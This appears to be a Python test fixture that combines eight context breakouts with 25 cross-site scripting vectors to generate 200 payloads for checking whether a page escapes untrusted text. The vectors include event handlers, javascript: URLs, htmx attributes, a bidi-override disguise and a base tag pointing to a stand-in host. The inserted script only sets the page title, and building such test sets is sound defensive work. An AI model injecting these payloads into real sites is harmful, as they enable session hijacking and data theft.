"""Two hundred words that would be a script in a page that forgot to escape them: ways out × what is then run."""

from __future__ import annotations

WAYS_OUT = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea></script>",
    "--><",
    '" autofocus onfocus=RUN x="',
    "{{ 7*7 }}${7*7}<%= 7*7 %>",
)
VECTORS = (
    "<script>RUN</script>",
    "<ScRiPt >RUN</sCrIpT >",
    "<script src=data:text/javascript,RUN></script>",
    "<img src=x onerror=RUN>",
    '<img src="x`" `onerror=RUN>',
    "<svg onload=RUN>",
    "<svg/onload=RUN//",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:RUN><text y=20>x</text></a>",
    "<math><mi//xlink:href='data:x,<script>RUN</script>'>",
    "<body onload=RUN>",
    "<iframe srcdoc='<script>parent.RUN</script>'>",
    "<iframe src=javascript:RUN>",
    "<a href=javascript:RUN>x</a>",
    "<a href='java\tscript:RUN'>x</a>",
    "<form action=javascript:RUN><button>x</button></form>",
    "<button hx-on:click=RUN hx-get=/ hx-trigger=load>x</button>",
    "<div hx-get=/ hx-trigger=load hx-vals='js:{a:RUN}'>x</div>",
    "<details open ontoggle=RUN>",
    "<video><source onerror=RUN></video>",
    "<style>*{background:url(javascript:RUN)}</style>",
    "<link rel=stylesheet href=data:text/css,*{}>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<base href=//evil.example/>",
    "\u202e<img src=x onerror=RUN>\u202c&lt;script&gt;RUN&lt;/script&gt;",
)
RAN = "ran"
RUN = f"document.title='{RAN}'"
PAYLOADS = tuple((out + vector).replace("RUN", RUN) for out in WAYS_OUT for vector in VECTORS)
